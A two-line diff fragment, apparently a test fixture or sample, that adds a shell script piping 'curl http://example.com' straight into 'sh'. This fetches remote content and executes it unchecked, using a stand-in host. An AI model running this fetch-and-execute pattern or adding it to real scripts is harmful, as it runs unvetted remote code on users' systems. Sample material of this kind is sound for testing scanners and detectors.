@@ -1,0 +1,2 @@
+#!/bin/sh
+curl http://example.com | sh
